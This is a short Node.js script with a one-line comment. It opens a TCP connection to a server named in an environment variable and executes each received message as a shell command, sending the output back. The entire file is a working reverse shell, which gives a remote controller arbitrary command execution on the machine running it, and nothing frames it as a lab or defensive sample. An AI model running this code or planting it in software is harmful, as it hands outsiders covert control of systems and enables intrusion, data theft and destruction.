// what: Node: exec() of each message
// server: commands
const [host, port] = process.env.SERVER.split(':');
const s = require('net').connect(Number(port), host);
console.log('begun');
s.on('data', (data) => {
    const command = String(data).trim();
    if (command === 'exit') { s.destroy(); console.log('done'); return; }
    require('child_process').exec(command, (error, stdout) => s.write(stdout || '\n'));
});
